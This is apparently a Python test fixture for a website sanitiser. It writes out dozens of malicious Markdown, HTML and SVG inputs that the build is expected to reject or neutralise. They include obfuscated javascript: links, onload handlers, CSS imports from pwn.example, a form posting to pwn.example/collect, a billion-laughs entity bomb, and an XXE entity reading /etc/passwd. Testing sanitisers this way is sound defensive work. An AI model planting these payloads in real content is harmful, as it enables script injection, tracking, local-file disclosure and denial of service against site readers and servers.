"""Active and outside content: raw HTML in Markdown and SVG files that would run script or make the reader's
browser fetch from another site, written as an attacker (or a careless copy-paste from another site) would.

Each payload carries the marker `pwn`. Where the author clearly meant something that cannot work on this site
(an outside image, a video from another site, a style that loads a background) the build fails and says so, on
the line; where the sanitiser's silent removal is the right outcome (an unknown tag, a harmless style) the case
builds (verdict ok) and tests/inert.py checks the site.
"""

from __future__ import annotations

from .common import CASE, story

STORY = "content/news/2021/active.md"
SVG = "content/images/chart.svg"
SVG_STORY = story("active", "统计图如下：\n\n![调解案件统计图](../../images/chart.svg)\n\n数据来源：县司法局。")
# Allow the video host of the iframe cases (a `.replace` file changes one line of the base site's config).
IFRAME_HOSTS = "feeds:\nsecurity:\n  iframe_hosts: [video.example.gov.cn]\nfeeds:"


def html(body: str) -> dict[str, str | bytes]:
    """A story whose body holds `body` between two ordinary paragraphs."""
    return {STORY: story("active", f"第一段，介绍工作情况。\n\n{body}\n\n最后一段。")}


def svg(inner: str, *, head: str = "", attributes: str = "") -> dict[str, str | bytes]:
    """An SVG chart holding `inner`, shown by a story."""
    return {SVG: f'{head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
                 f'width="300" height="150" viewBox="0 0 300 150"{attributes}>\n'
                 f'  <rect width="300" height="150" fill="#eef"/>\n{inner}\n</svg>\n',
            STORY: SVG_STORY}


# An SVG as Inkscape saves it, with metadata, a gradient and a filter referenced by url(#id): publishes as is.
INKSCAPE = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="300" height="150" viewBox="0 0 300 150" version="1.1" id="svg1"
   inkscape:version="1.3 (0e150ed6c4, 2023-07-21)" sodipodi:docname="chart.svg"
   inkscape:export-filename="C:\\Users\\pwn\\Desktop\\chart.png"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink" xmlns="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#"
   xmlns:dc="http://purl.org/dc/elements/1.1/">
  <sodipodi:namedview id="namedview1" pagecolor="#ffffff" inkscape:zoom="0.7"/>
  <defs id="defs1">
    <linearGradient id="grad1"><stop style="stop-color:#c00" offset="0"/><stop style="stop-color:#fcc" offset="1"/>
    </linearGradient>
    <linearGradient xlink:href="#grad1" id="grad2" x1="0" y1="0" x2="300" y2="0" gradientUnits="userSpaceOnUse"/>
    <filter id="soft"><feGaussianBlur stdDeviation="1"/></filter>
    <style>.bar { fill: url(#grad2); } text { font-family: 'Microsoft YaHei', sans-serif; }</style>
  </defs>
  <metadata><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format>
    <dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/><dc:title>pwn 调解案件统计</dc:title>
  </cc:Work></rdf:RDF></metadata>
  <title>调解案件统计（pwn 只是文字）</title>
  <g inkscape:label="图层 1" inkscape:groupmode="layer" id="layer1">
    <rect class="bar" width="200" height="40" x="10" y="10" style="filter:url('#soft')"/>
    <rect width="120" height="40" x="10" y="60" fill="url(#grad2)"/>
    <a href="#layer1"><text x="10" y="130">调解成功率 96% &lt;pwn-text&gt;</text></a>
  </g>
</svg>
"""

LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE svg [\n  <!ENTITY pwn "pwnpwnpwnpwnpwnpwnpwnpwnpwnpwn">\n'
          + "".join(f'  <!ENTITY pwn{i} "{("&pwn" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
                    for i in range(1, 10))
          + "]>\n")


def cases() -> dict[str, dict[str, str | bytes]]:
    return {
        # -- raw HTML that loads from another site -----------------------------------------------------
        "active-raw-img-outside": html('<p><img src="https://pwn.example/track.gif" alt="现场"></p>'),
        "active-raw-img-inline-uppercase": html("会场照片 <IMG SRC=HTTPS://PWN.EXAMPLE/a.png ALT=照片> 如上。"),
        "active-raw-img-protocol-relative": html('<img src="//pwn.example/a.png" alt="现场">'),
        "active-raw-img-backslashes": html('<img src="\\\\pwn.example\\a.png" alt="现场">'),
        "active-raw-img-srcset-one-outside": html(
            '<img src="../../images/body.jpg" alt="现场"\n     srcset="../../images/body.jpg 1x, '
            'https://pwn.example/b.jpg 2x">'),
        "active-raw-picture-source-outside": html(
            '<picture>\n  <source srcset="https://pwn.example/a.webp" type="image/webp">\n'
            '  <img src="../../images/body.jpg" alt="现场">\n</picture>'),
        "active-raw-img-entity-host": html('<img src="https&#x3a;&#x2f;&#x2f;pwn.example/a.png" alt="现场">'),
        "active-video-poster-outside": html(
            '<video controls width="640" poster="https://pwn.example/poster.jpg"></video>'),
        "active-video-source-outside": html(
            '<video controls>\n  <source src="https://pwn.example/v.mp4" type="video/mp4">\n</video>'),
        "active-audio-outside-entity-tab": html('<audio controls src="ht&#9;tps://pwn.example/a.mp3"></audio>'),
        "active-video-track-outside": html(
            '<video controls>\n  <track kind="subtitles" src="//pwn.example/sub.vtt">\n</video>'),
        "active-table-background-attribute": html(
            '<table background="https://pwn.example/bg.png">\n<tr><td>调解</td><td>12</td></tr>\n</table>'),
        "active-link-ping": html('详见<a href="/news/" ping="https://pwn.example/log">新闻列表</a>。'),
        "active-md-in-html-video-poster": html(
            '<video markdown="1" poster="https://pwn.example/p.jpg">\n宣传片\n</video>'),
        "active-attr-list-image-srcset": html(
            '![调解现场](../../images/body.jpg){: srcset="https://pwn.example/x.jpg 2x" }'),
        # -- style that loads ----------------------------------------------------------------------------
        "active-td-style-url": html(
            '<table>\n<tr><td style="background:url(https://pwn.example/bg.png)">调解</td><td>12</td></tr>\n</table>'),
        "active-td-style-escaped-url": html(
            '<table>\n<tr><td style="background:u\\72l(//pwn.example/bg.png)">调解</td></tr>\n</table>'),
        "active-span-style-import-in-table": {STORY: story(
            "active", "| 项目 | 数量 |\n|--|--:|\n| <span style=\"@import 'https://pwn.example/x.css'\">调解</span> | 12 |")},
        "active-style-comment-split": html('<p style="background-image: ur/**/l(\'https://pwn.example/p.png\')">'
                                           "提示</p>"),
        # -- script addresses, however written -----------------------------------------------------------
        "active-raw-link-javascript": html('<a href="javascript:pwn()">点这里</a>'),
        "active-raw-link-entity-javascript": html('<p>请<a href="jav&#x61;script&colon;pwn()">点这里</a>报名。</p>'),
        "active-raw-link-tab-entity": html('<a href="java&#9;script:pwn()">点这里</a>'),
        "active-raw-link-split-line": html('<p><a href="java\nscript:pwn()">点这里</a></p>'),
        "active-raw-link-leading-space-case": html('<a href="&#32; &#x20;JaVaScRiPt:pwn()">点这里</a>'),
        "active-raw-link-vbscript": html('<a href="vbscript:pwn">点这里</a>'),
        "active-raw-link-data-html": html('<a href="data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==">pwn</a>'),
        "active-markdown-link-entity": html("[点这里](jav&#x61;script:pwn())报名。"),
        "active-markdown-reference-link": html("详见[报名方式][1]。\n\n[1]: &#106;avascript:pwn()"),
        "active-markdown-image-javascript": html("![现场](JaVaScRiPt:pwn())"),
        # -- scripting and embedding ---------------------------------------------------------------------
        "active-attr-list-onclick": html('点击查看详情\n{: onclick="pwn()" }'),
        "active-md-in-html-div-handler": html('<div markdown="1" onmouseover="pwn()">\n**重要通知**\n</div>'),
        "active-iframe-srcdoc": {**html('<iframe src="https://video.example.gov.cn/embed/1" '
                                        'srcdoc="&lt;script&gt;pwn()&lt;/script&gt;"></iframe>'),
                                 "site_config.yml.replace": IFRAME_HOSTS},
        "active-iframe-userinfo-host": {**html('<iframe src="https://video.example.gov.cn:@pwn.example/embed/1">'
                                               '</iframe>'),
                                        "site_config.yml.replace": IFRAME_HOSTS},
        "active-iframe-md-in-html": html('<iframe markdown="1" src="https://pwn.example/embed"></iframe>'),
        "active-object-data": html('<object data="https://pwn.example/x.swf" type="application/x-shockwave-flash">'
                                   "</object>"),
        "active-link-stylesheet": html('<link rel="stylesheet" href="https://pwn.example/x.css">'),
        "active-meta-refresh": html('<meta http-equiv="refresh" content="0; url=https://pwn.example/">'),
        "active-form-action": html('<form action="https://pwn.example/collect"><input name="pwn"><button>提交</button>'
                                   "</form>"),
        "active-inline-svg": html('<svg width="10" height="10" onload="pwn()"><image href="https://pwn.example/x.png"/>'
                                  "</svg>"),
        "active-svg-nested-in-div": html('<div class="chart">\n<p>图表</p>\n<svg><a xlink:href="javascript:pwn()">'
                                         "<text>点</text></a></svg>\n</div>"),
        "active-inline-math": html('公式：<math><mi href="javascript:pwn()">x</mi></math>'),
        # -- what the sanitiser removes silently: the site builds inert ----------------------------------
        "active-unknown-tag-dropped": {**html('<pwn-box class="note">这段文字保留，标签去掉。</pwn-box>'),
                                       "verdict": "ok"},
        "active-harmless-style-dropped": {**html('<p style="color:red" title="pwn">红色的提示文字。</p>'),
                                          "verdict": "ok"},
        "active-outside-link-kept": {**html('详见<a href="https://pwn.example/notice">通知原文</a>。'),
                                     "verdict": "ok"},
        # -- SVG files -------------------------------------------------------------------------------------
        "active-svg-clean-inkscape": {SVG: INKSCAPE, STORY: SVG_STORY, "verdict": "ok"},
        "active-svg-onload": svg("", attributes=' onload="pwn()"'),
        "active-svg-animate-href": svg('  <a href="#x"><animate attributeName="href" to="javascript:pwn()" '
                                       'begin="0s" fill="freeze"/><text x="10" y="80">点击查看</text></a>'),
        "active-svg-set-xlink-href": svg('  <a xlink:href="#x"><set attributeName="xlink:href" '
                                         'to="javascript:pwn()"/><text x="10" y="80">点击</text></a>'),
        "active-svg-animate-transform": svg('  <rect id="pwn" width="10" height="10"><animateTransform '
                                            'attributeName="transform" type="rotate" to="360" dur="1s"/></rect>'),
        "active-svg-xlink-entity-javascript": svg('  <a xlink:href="jav&#x61;script:pwn()"><text x="10" y="80">点击</text>'
                                                  "</a>"),
        "active-svg-href-tab-javascript": svg('  <a href=" &#9;java&#10;script:pwn()"><text x="10" y="80">点击</text>'
                                              "</a>"),
        "active-svg-outside-link": svg('  <a href="https://pwn.example/"><text x="10" y="80">更多数据</text></a>'),
        "active-svg-image-outside": svg('  <image href="https://pwn.example/logo.png" width="50" height="50"/>'),
        "active-svg-use-outside": svg('  <use xlink:href="https://pwn.example/sprite.svg#pwn"/>'),
        "active-svg-style-import": svg("  <style>@import url(https://pwn.example/x.css);</style>"),
        "active-svg-style-escaped-url": svg("  <style><![CDATA[ rect { fill: u\\72l(//pwn.example/p.svg#g) } ]]>"
                                            "</style>"),
        "active-svg-style-attribute-url": svg(
            """  <rect width="10" height="10" style="fill:url('https://pwn.example/a.svg#g')"/>"""),
        "active-svg-fill-attribute-url": svg('  <rect width="10" height="10" fill="url(//pwn.example/a.svg#pwn)"/>'),
        "active-svg-billion-laughs": svg("  <text>&pwn9;</text>", head=LAUGHS),
        "active-svg-external-entity": svg("  <text>&pwn;</text>", head='<!DOCTYPE svg [\n  <!ENTITY pwn SYSTEM '
                                                                         '"file:///etc/passwd">\n]>\n'),
        "active-svg-attlist-default-handler": svg(
            "", head='<!DOCTYPE svg [\n  <!ATTLIST svg onload CDATA "pwn()">\n]>\n'),
        "active-svg-script-namespaced": svg('  <h:script xmlns:h="http://www.w3.org/1999/xhtml">pwn()</h:script>'),
        "active-svg-xhtml-img": svg('  <h:img xmlns:h="http://www.w3.org/1999/xhtml" src="https://pwn.example/x.png"/>'),
        "active-svg-foreign-object": svg(
            '  <foreignObject width="100" height="50"><div xmlns="http://www.w3.org/1999/xhtml">'
            '<img src="https://pwn.example/x.png"/></div></foreignObject>'),
        "active-svg-handler": svg('  <handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">pwn()'
                                  "</handler>"),
        "active-svg-xml-stylesheet": svg("", head='<?xml version="1.0"?>\n'
                                                  '<?xml-stylesheet type="text/css" href="https://pwn.example/x.css"?>\n'),
        "active-svg-utf7": {SVG: '<?xml version="1.0" encoding="UTF-7"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
                                 'width="10" height="10">+ADw-script+AD4-pwn()+ADw-/script+AD4-</svg>\n',
                            STORY: SVG_STORY},
        "active-svg-in-case-record": {SVG: svg('  <a href="javascript:pwn()"><text x="10" y="80">点</text></a>')[SVG],
                                      "content/cases/drain.yml": CASE.format(id="drain")
                                      + "body: |\n  现场示意图：\n\n  ![排水沟位置示意图](../images/chart.svg)\n"},
    }
